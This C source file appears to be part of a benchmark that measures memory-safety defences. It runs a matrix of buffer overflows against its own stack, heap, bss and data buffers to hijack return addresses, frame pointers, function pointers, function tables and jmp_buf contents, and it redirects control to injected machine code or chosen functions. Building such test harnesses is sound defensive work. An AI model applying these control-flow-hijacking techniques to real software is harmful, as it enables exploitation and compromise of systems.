/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * The matrix: where the buffer lies x what is overwritten x how x what control is sent to. Arguments: the
 * four words of a cell, "stack return direct inject"; which cells there are, build/attack_list.c says. Each
 * cell uses its target first as the program means to (control), then overflows the buffer.
 *
 * The attacker knows every address: what not knowing them is worth is what the replays measure.
 */
#include "attack.h"

#include <setjmp.h>
#include <stdlib.h>

#define BUFFER_BYTES 64
/* An overflow that long is no longer one of a neighbour. */
#define REACH_BYTES 4096
#define OWN_STACK_BYTES 16384
/* Exit statuses that build/attack_run.c knows: bad arguments, and a target that does not lie behind. */
#define EXIT_ARGUMENTS 2
#define EXIT_OUT_OF_REACH 9
/* The saved instruction and stack pointer in a jmp_buf: musl, src/setjmp/x86_64/setjmp.s. */
#define JMP_RSP 6
#define JMP_RIP 7

typedef int handler(int);
typedef unsigned char buffer[BUFFER_BYTES];

struct operations {
	handler *first;
};

/* An object with a buffer and what an attacker wants behind it. */
struct member {
	buffer bytes;
	handler *volatile target;
};
struct object {
	buffer bytes;
	const struct operations *volatile target;
};
struct context {
	buffer bytes;
	jmp_buf target;
};
/* What the indirect technique needs: a pointer that the program writes through. */
struct record {
	buffer bytes;
	uintptr_t *volatile where;
};

struct cell {
	const char *location, *target, *payload;
	bool is_near;          /* by running over from the buffer, not through a pointer */
	bool is_leak;          /* what lies between keeps its value: somebody has read it */
	bool is_armed;         /* not so: the program's own use */
	struct record *record; /* in the location; indirect only */
};

/* Payloads that are functions run on a stack of their own: where the stack is may be the attack's doing. */
static unsigned char own_stack[OWN_STACK_BYTES] __attribute__((aligned(16)));

__attribute__((used, noinline)) static void reached(void)
{
	attack_succeeded();
}

static __attribute__((naked, used, noinline)) void function(void)
{
	__asm__("leaq %c0(%%rip), %%rsp\n\t"
		"call %c1"
		:
		: "i"(own_stack + OWN_STACK_BYTES), "i"(reached));
}

static __attribute__((noinline)) int legitimate(int n)
{
	volatile int result = n;

	return result + 1;
}

static __attribute__((noinline)) int same_type(int n)
{
	if (n)
		attack_succeeded();
	return 0;
}

static __attribute__((noinline)) void other_type(const char *s, long n)
{
	(void)s;
	(void)n;
	attack_succeeded();
}

/* What an attacker wants is behind the check at its entry. */
static __attribute__((naked, used, noinline)) void guarded(void)
{
	__asm__("xorl %%eax, %%eax\n\t"
		"ret\n"
		"attack_fragment:\n\t"
		"leaq %c0(%%rip), %%rsp\n\t"
		"call %c1"
		:
		: "i"(own_stack + OWN_STACK_BYTES), "i"(reached));
}

/* Their addresses are taken elsewhere too, as in a real program: each has a type hash or a table entry. */
static handler *volatile some_handler = same_type;
static void (*volatile some_other)(const char *, long) = other_type;

static struct member bss_member, data_member = {.target = legitimate};
static const struct operations operations = {legitimate};
static struct object bss_object, data_object = {.target = &operations};
static struct context bss_context, data_context = {.bytes = {1}};
static struct record bss_record, data_record = {.where = (uintptr_t *)&bss_record};

/* Pointers with several buffers around: which lie below, compiler and linker decide. */
static buffer bss_buffer;
static handler *volatile bss_pointer;
static buffer data_buffer = {1};
static handler *volatile data_pointer = legitimate;

static unsigned char message[REACH_BYTES];

static bool is(const char *s, const char *word)
{
	for (; *s && *s == *word; s++, word++)
		;
	return *s == *word;
}

/* The bug. */
static __attribute__((noinline)) void copy(volatile unsigned char *to, const unsigned char *from,
					   size_t len)
{
	for (size_t i = 0; i < len; i++)
		to[i] = from[i];
}

static void put_word(size_t at, uintptr_t word)
{
	for (size_t i = 0; i < sizeof(word); i++)
		message[at + i] = (unsigned char)(word >> (8 * i));
}

/* mov $function, %rax; jmp *%rax (Intel SDM vol. 2) */
static void put_code(size_t at)
{
	message[at] = 0x48;
	message[at + 1] = 0xb8;
	put_word(at + 2, (uintptr_t)attack_launder((const void *)function));
	message[at + 10] = 0xff;
	message[at + 11] = 0xe0;
}

static uintptr_t fragment(void)
{
	uintptr_t at;

	/* C has no name for the middle of a function. */
	__asm__("leaq attack_fragment(%%rip), %0" : "=r"(at));
	return at;
}

/* Where control shall go; code goes to offset `at` of the message, which will lie at `to`. */
static uintptr_t payload(const struct cell *c, const unsigned char *to, size_t at)
{
	if (is(c->payload, "inject")) {
		put_code(at);
		return (uintptr_t)to + at;
	}
	if (is(c->payload, "same"))
		return (uintptr_t)some_handler;
	if (is(c->payload, "other"))
		return (uintptr_t)some_other;
	if (is(c->payload, "fragment"))
		return fragment();
	return (uintptr_t)attack_launder((const void *)function);
}

/* Fills the part of the message that the buffer holds; what the target's word becomes. */
static uintptr_t prepare(const struct cell *c, const unsigned char *to)
{
	for (size_t i = 0; i < sizeof(message); i++)
		message[i] = 'A';
	/* A table of functions, or a frame whose second word is the return address: in the buffer. */
	if (is(c->target, "table")) {
		put_word(0, payload(c, to, 8));
		return (uintptr_t)to;
	}
	if (is(c->target, "frame")) {
		put_word(8, payload(c, to, 16));
		return (uintptr_t)to;
	}
	return payload(c, to, 0);
}

static void out_of_reach(void)
{
	attack_say("attack: out of reach\n");
	uk_plat_halt(EXIT_OUT_OF_REACH, NULL);
}

/* The part of a jmp_buf before its last word must stay such that the jump is taken. */
static void keep_stack_pointer(const struct cell *c, size_t distance)
{
	if (is(c->target, "jump"))
		put_word(distance - (JMP_RIP - JMP_RSP) * sizeof(uintptr_t),
			 (uintptr_t)attack_launder(own_stack + OWN_STACK_BYTES));
}

/* Behind the buffer the message says what is there. */
static void keep_all(const volatile unsigned char *from, size_t distance)
{
	for (size_t i = BUFFER_BYTES; i < distance; i++)
		message[i] = from[i];
}

/* Overwrites *slot: by running over from near, which lies before it, or through a pointer. */
static __attribute__((noinline)) void strike(const struct cell *c, unsigned char *near,
					     volatile void *slot)
{
	unsigned char *from = c->is_near ? near : c->record->bytes;
	size_t distance = (uintptr_t)slot - (uintptr_t)near;
	uintptr_t word;

	if (!c->is_armed) {
		copy(from, message, BUFFER_BYTES);
		return;
	}
	word = prepare(c, from);
	if (c->is_near) {
		if ((uintptr_t)slot < (uintptr_t)near || distance > REACH_BYTES - sizeof(word))
			out_of_reach();
		if (c->is_leak)
			keep_all(near, distance);
		else
			keep_stack_pointer(c, distance);
		put_word(distance, word);
		copy(near, message, distance + sizeof(word));
		return;
	}
	put_word(BUFFER_BYTES, (uintptr_t)slot);
	copy(from, message, sizeof(struct record));
	*c->record->where = word;
}

/* The nearest buffer that lies below the target; the first when none does. */
static unsigned char *below(unsigned char *const *buffers, volatile void *slot)
{
	unsigned char *best = buffers[0];

	for (; *buffers; buffers++)
		if ((uintptr_t)*buffers < (uintptr_t)slot &&
		    ((uintptr_t)best > (uintptr_t)slot || *buffers > best))
			best = *buffers;
	return best;
}

static __attribute__((noinline)) int victim_return(const struct cell *c)
{
	buffer b;

	strike(c, b, (volatile uintptr_t *)__builtin_frame_address(0) + 1);
	return b[0];
}

static __attribute__((noinline)) int victim_frame(const struct cell *c)
{
	buffer b;

	strike(c, b, (volatile uintptr_t *)__builtin_frame_address(0));
	return b[0];
}

/* Leaves through its frame pointer, which its callee has saved. */
static __attribute__((noinline)) int leave_by_frame(const struct cell *c, size_t bytes)
{
	volatile unsigned char *dynamic = __builtin_alloca(bytes);

	dynamic[0] = 0;
	return victim_frame(c) + 1;
}

/* The buffer's size is only known when it runs, so it lies below the variables. */
static __attribute__((noinline)) int victim_local(const struct cell *c, volatile size_t bytes)
{
	handler *volatile target = legitimate;
	unsigned char *b = __builtin_alloca(bytes);

	strike(c, b, &target);
	return target(1);
}

static __attribute__((noinline)) int victim_parameter(const struct cell *c, volatile size_t bytes,
						      handler *volatile target)
{
	unsigned char *b = __builtin_alloca(bytes);

	strike(c, b, &target);
	return target(1);
}

static __attribute__((noinline)) int
victim_pointer(const struct cell *c, unsigned char *const *buffers, handler *volatile *target)
{
	*target = legitimate;
	strike(c, below(buffers, target), target);
	return (*target)(1);
}

static __attribute__((noinline)) int victim_member(const struct cell *c, struct member *m)
{
	m->target = legitimate;
	strike(c, m->bytes, &m->target);
	return m->target(1);
}

static __attribute__((noinline)) int victim_table(const struct cell *c, struct object *o)
{
	o->target = &operations;
	strike(c, o->bytes, &o->target);
	return o->target->first(1);
}

static __attribute__((noinline)) int victim_jump(const struct cell *c, struct context *x)
{
	if (setjmp(x->target))
		return 2;
	strike(c, x->bytes, (volatile uintptr_t *)x->target + JMP_RIP);
	longjmp(x->target, 1);
}

static void *new(size_t bytes)
{
	void *p = malloc(bytes);

	if (!p)
		uk_plat_halt(EXIT_ARGUMENTS, NULL);
	return p;
}

/* "member-heap": the place that a target's name ends in, or the name. */
static const char *place_of(const char *target)
{
	const char *place = target;

	for (const char *s = target; *s; s++)
		if (*s == '-')
			place = s + 1;
	return place;
}

static int strike_member(const struct cell *c, const char *place)
{
	struct member on_stack;

	return victim_member(c, is(place, "stack")  ? &on_stack
				: is(place, "heap") ? new (sizeof(on_stack))
				: is(place, "bss")  ? &bss_member
						    : &data_member);
}

static int strike_table(const struct cell *c, const char *place)
{
	struct object on_stack;

	return victim_table(c, is(place, "stack")  ? &on_stack
			       : is(place, "heap") ? new (sizeof(on_stack))
			       : is(place, "bss")  ? &bss_object
						   : &data_object);
}

static int strike_jump(const struct cell *c, const char *place)
{
	struct context on_stack;

	return victim_jump(c, is(place, "stack")  ? &on_stack
			      : is(place, "heap") ? new (sizeof(on_stack))
			      : is(place, "bss")  ? &bss_context
						  : &data_context);
}

static int strike_pointer(const struct cell *c, const char *place)
{
	static unsigned char *first;
	static handler *volatile *target;
	unsigned char *const in_bss[] = {bss_buffer, bss_member.bytes, bss_object.bytes,
					 bss_record.bytes, NULL};
	unsigned char *const in_data[] = {data_buffer, data_member.bytes, data_object.bytes,
					  data_record.bytes, NULL};

	if (is(place, "bss"))
		return victim_pointer(c, in_bss, &bss_pointer);
	if (is(place, "data"))
		return victim_pointer(c, in_data, &data_pointer);
	/* Neighbours on the heap, of one size. */
	if (!first) {
		first = new (BUFFER_BYTES);
		target = new (BUFFER_BYTES);
	}
	return victim_pointer(c, (unsigned char *const[]){first, NULL}, target);
}

/* The target's name up to the place. */
static int strike_target(struct cell *c, const char *target)
{
	const char *place = place_of(target);
	volatile size_t bytes = BUFFER_BYTES;

	if (is(target, "return"))
		return victim_return(c);
	if (is(target, "frame"))
		return leave_by_frame(c, bytes);
	if (is(target, "local"))
		return victim_local(c, bytes);
	if (is(target, "parameter"))
		return victim_parameter(c, bytes, legitimate);
	c->target = target[0] == 'j' ? "jump" : target[0] == 't' ? "table" : c->target;
	return target[0] == 'j'   ? strike_jump(c, place)
	       : target[0] == 't' ? strike_table(c, place)
	       : target[0] == 'm' ? strike_member(c, place)
				  : strike_pointer(c, place);
}

int main(int argc, char **argv)
{
	struct record on_stack;
	struct cell c;

	if (argc < 5)
		return EXIT_ARGUMENTS;
	c = (struct cell){.location = argv[1],
			  .target = argv[2],
			  .payload = argv[4],
			  .is_near = !is(argv[3], "indirect"),
			  .is_leak = is(argv[3], "leak")};
	c.record = is(c.location, "stack")  ? &on_stack
		   : is(c.location, "heap") ? new (sizeof(on_stack))
		   : is(c.location, "bss")  ? &bss_record
					    : &data_record;
	if (legitimate(1) != 2 || strike_target(&c, argv[2]) < 0)
		return 1;
	attack_control_ok();
	c.is_armed = true;
	return strike_target(&c, argv[2]) < 0;
}
